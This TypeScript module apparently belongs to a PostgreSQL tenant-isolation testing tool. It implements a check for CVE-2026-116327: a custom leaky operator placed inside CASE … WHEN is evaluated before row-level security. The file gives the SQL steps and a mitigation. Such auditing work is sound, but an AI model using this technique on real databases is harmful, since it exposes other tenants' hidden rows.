import { quoteIdentifier, quoteLiteral } from "../../../postgres/sql/quote";
import { quoteObject } from "../../../postgres/sql/target";
import type { AttackContext } from "../../context";
import { heldBack, type Observation, unable } from "../../observation";
import type { TenantTable } from "../../scene/scene";
import { whyMissing } from "../../seed/seeds";
import { SCRATCH, scratchSchema } from "../scratch";
import { mayTry } from "../tenant/actions";
import { holeAttack } from "./hole";
import { leakyOperator, type Workshop, whereToCreate } from "./leaky-operator";

const OPERATOR = "=";

/** The planner looks for a column below a leaky function, and CASE … WHEN puts a placeholder there. */
export default holeAttack({
  id: "hole-leaky-case",
  hole: "CVE-2026-116327",
  title: "Uses a hole: a leaky operator inside CASE … WHEN is evaluated before row security",
  severity: "high",
  why: "An operator of the attacker's own is shown hidden rows, and tells what it was shown.",
  defence: "no schema in which a low-trust role may create an operator",
  harmless: "it can create no operator, or its operator meets no hidden row",
  meanwhile: "REVOKE CREATE on the database and on every schema FROM the role and from PUBLIC",
  shownBy: ["22012"],
  trial: ({ stranger: { role } }) => ({
    prepare: [
      ...scratchSchema(role),
      `CREATE TABLE ${SCRATCH}.rows (tenant text)`,
      `INSERT INTO ${SCRATCH}.rows VALUES ('own'), ('other')`,
      `CREATE FUNCTION ${SCRATCH}.mine(text) RETURNS boolean LANGUAGE plpgsql STABLE COST 10000
         AS 'BEGIN RETURN $1 OPERATOR(pg_catalog.=) ''own''; END'`,
      `ALTER TABLE ${SCRATCH}.rows ENABLE ROW LEVEL SECURITY`,
      `CREATE POLICY tenant ON ${SCRATCH}.rows USING (${SCRATCH}.mine(tenant))`,
      `GRANT SELECT ON ${SCRATCH}.rows TO ${quoteIdentifier(role)}`,
    ],
    statements: [
      ...leakyOperator(SCRATCH, OPERATOR, "text", "own"),
      `SET LOCAL search_path = ${SCRATCH}, pg_catalog`,
      `SELECT count(*) FROM ${SCRATCH}.rows WHERE CASE tenant WHEN 'nobody' THEN true ELSE true END`,
    ],
    read: () => heldBack("the operator met no hidden row"),
  }),
  breaches: { "22012": "an operator of its own was evaluated on rows of another tenant" },
  here: async (context) => {
    const schema = await whereToCreate(context);
    if (schema === undefined) return [];
    const tables = context.privateTables.filter((table) => mayTry(context, table, "read"));
    return Promise.all(tables.map((table) => evaluated(context, schema, table)));
  },
});

async function evaluated(
  context: AttackContext,
  { create, name }: Workshop,
  table: TenantTable,
): Promise<Observation> {
  const { object, column, type } = table;
  const seed = context.seed(table);
  if ("missing" in seed) return unable(whyMissing(seed));
  return context.attempt({
    statements: [
      ...create,
      context.serve(table, seed.own),
      ...leakyOperator(name, OPERATOR, type, seed.own.tenant),
      `SET LOCAL search_path = ${name}, pg_catalog`,
      `SELECT count(*) FROM ${quoteObject(object)}
        WHERE CASE ${quoteIdentifier(column)} WHEN ${quoteLiteral(seed.other.tenant)}::${type} THEN true ELSE true END`,
    ],
    read: () => heldBack("the operator met no hidden row"),
  });
}
